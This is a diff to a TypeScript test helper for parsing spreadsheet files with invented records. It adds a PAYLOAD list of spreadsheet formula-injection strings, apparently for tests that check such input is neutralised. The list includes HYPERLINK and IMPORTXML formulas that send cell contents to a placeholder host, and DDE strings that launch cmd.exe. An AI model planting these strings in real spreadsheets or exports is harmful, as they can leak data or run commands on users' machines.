@@ -1,5 +1,5 @@
 /** Sheets and rows of Format 34/37 as tests write them by hand. All people are invented (serial 9000 and up). */
-import { bacaBerkas, type HasilBerkas, type OpsiBerkas } from '#domain/format/baca-berkas.ts';
+import { type BarisBerkas, bacaBerkas, type HasilBerkas, type OpsiBerkas } from '#domain/format/baca-berkas.ts';
 import { type Format, type KunciKolom, kolomFormat } from '#domain/format/kolom.ts';
 import { barisTeks, type Lembar, type Sel } from '#domain/format/sel.ts';
 import { type Letak, temukanTabel } from '#domain/format/temukan.ts';
@@ -73,3 +73,43 @@ export function temuan(format: Format, ubah: Isian, opsi: Partial<OpsiBerkas> = 
 /** The rows of a text table: cells split at `|`. */
 export const tabel = (...isi: string[]): Lembar =>
   isi.map((satu) => barisTeks(satu === '' ? [] : satu.split('|').map((teks) => teks.trim())));
+
+/** The one row of a file with ORANG and changes. */
+export function rekaman(ubah: Isian = {}, format: Format = 'F34'): BarisBerkas {
+  const satu = baca(lembar(format, ubah)).baris[0];
+  if (!satu) throw new Error('no row');
+  return satu;
+}
+
+/** Text that some spreadsheet runs, in front of it everything that a spreadsheet overlooks. */
+const TUBUH = [
+  'HYPERLINK("http://x/?"&A1,"klik")',
+  'IMPORTXML(CONCAT("http://x/",A2),"//a")',
+  '1+1',
+  'SUM(1)',
+  "cmd|'/c calc'!A1",
+];
+const AWAL = [
+  '=',
+  '+',
+  '-',
+  '@',
+  '\t=',
+  '\r=',
+  '\n=',
+  '\u0000=',
+  ' =',
+  '\u00A0=',
+  '＝',
+  '＋',
+  '－',
+  '＠',
+  "'=",
+  '"=',
+  ';=',
+  ',=',
+];
+export const PAYLOAD = [
+  ...AWAL.flatMap((awal) => TUBUH.map((tubuh) => awal + tubuh)),
+  ...['|cmd', '%0A=1', "MSEXCEL|'\\..\\..\\cmd.exe'!''", 'JL. MELATI;=1+1', 'JL. MELATI\t@SUM(1)'],
+];
